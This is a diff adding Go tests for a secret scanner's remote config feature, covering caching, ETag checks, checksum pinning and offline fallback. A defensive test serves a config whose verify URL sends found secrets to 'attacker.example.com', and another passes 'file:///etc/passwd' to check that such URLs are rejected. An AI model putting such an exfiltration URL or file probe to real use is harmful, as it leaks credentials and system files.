@@ -0,0 +1,112 @@
+package config
+
+import (
+	"net/http"
+	"net/http/httptest"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+)
+
+const remoteConfig = `title = "remote"
+
+[[rules]]
+    description = "AWS Access Key"
+    id = "aws-access-key"
+    regex = '''(?:A3T[A-Z0-9]|AKIA|ASIA|ABIA|ACCA)[A-Z0-9]{16}'''
+    tags = ["key", "AWS"]
+`
+
+// newRemoteServer serves remoteConfig with an ETag and counts the requests
+// and the responses that were not modified.
+func newRemoteServer(requests, notModified *int) *httptest.Server {
+	return httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		*requests++
+		if r.Header.Get("If-None-Match") == `"v1"` {
+			*notModified++
+			w.WriteHeader(http.StatusNotModified)
+			return
+		}
+		w.Header().Set("ETag", `"v1"`)
+		_, _ = w.Write([]byte(remoteConfig))
+	}))
+}
+
+func TestFetchExtendURL(t *testing.T) {
+	t.Setenv(CacheDirEnv, t.TempDir())
+	var requests, notModified int
+	server := newRemoteServer(&requests, &notModified)
+	defer server.Close()
+
+	// first fetch downloads the config
+	data, err := fetchExtendURL(Extend{URL: server.URL})
+	require.NoError(t, err)
+	assert.Equal(t, remoteConfig, string(data))
+	assert.Equal(t, 1, requests)
+
+	// cached copy is used until the ttl expires
+	data, err = fetchExtendURL(Extend{URL: server.URL})
+	require.NoError(t, err)
+	assert.Equal(t, remoteConfig, string(data))
+	assert.Equal(t, 1, requests)
+
+	// then the etag is used to check for changes
+	data, err = fetchExtendURL(Extend{URL: server.URL, TTL: time.Nanosecond})
+	require.NoError(t, err)
+	assert.Equal(t, remoteConfig, string(data))
+	assert.Equal(t, 2, requests)
+	assert.Equal(t, 1, notModified)
+
+	// pinned checksum
+	checksum := sha256Hex([]byte(remoteConfig))
+	_, err = fetchExtendURL(Extend{URL: server.URL, Checksum: "sha256:" + checksum})
+	require.NoError(t, err)
+	_, err = fetchExtendURL(Extend{URL: server.URL + "/other", Checksum: strings.Repeat("0", 64)})
+	assert.EqualError(t, err, "config does not match extend.checksum, expected sha256 "+strings.Repeat("0", 64)+", got "+checksum)
+
+	// offline fallback to the cached copy
+	server.Close()
+	data, err = fetchExtendURL(Extend{URL: server.URL, TTL: time.Nanosecond})
+	require.NoError(t, err)
+	assert.Equal(t, remoteConfig, string(data))
+	_, err = fetchExtendURL(Extend{URL: server.URL + "/uncached"})
+	require.Error(t, err)
+	assert.Contains(t, err.Error(), "failed to fetch config: ")
+
+	_, err = fetchExtendURL(Extend{URL: "file:///etc/passwd"})
+	assert.EqualError(t, err, "scheme must be http or https")
+}
+
+func TestExtendURL(t *testing.T) {
+	t.Setenv(CacheDirEnv, t.TempDir())
+	var requests, notModified int
+	server := newRemoteServer(&requests, &notModified)
+	defer server.Close()
+
+	vc := ViperConfig{Extend: Extend{URL: server.URL}}
+	cfg, err := vc.Translate()
+	require.NoError(t, err)
+	assert.Contains(t, cfg.Rules, "aws-access-key")
+	assert.Equal(t, []string{"aws-access-key"}, cfg.OrderedRules)
+
+	vc = ViperConfig{Extend: Extend{URL: server.URL, Path: "extend.toml"}}
+	_, err = vc.Translate()
+	assert.EqualError(t, err, "extend: only one of path, url and useDefault can be set, got url and path or useDefault")
+
+	// the verify requests of a remote config could send the secrets found
+	// anywhere
+	verifyServer := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		_, _ = w.Write([]byte(remoteConfig + `
+    [rules.verify]
+        url = "https://attacker.example.com/?s={{ .Secret }}"
+`))
+	}))
+	defer verifyServer.Close()
+	vc = ViperConfig{Extend: Extend{URL: verifyServer.URL}}
+	_, err = vc.Translate()
+	require.Error(t, err)
+	assert.Contains(t, err.Error(), "aws-access-key: configs extended from a url cannot set verify requests")
+}